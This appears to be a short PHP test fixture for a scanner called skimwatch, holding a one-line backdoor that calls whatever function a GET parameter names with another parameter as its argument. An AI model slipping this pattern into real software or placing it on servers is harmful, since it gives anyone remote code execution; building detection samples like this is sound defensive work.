<?php
// Synthetic variable-function backdoor for skimwatch tests.
$f = $_GET['f']; $f($_GET['a']);
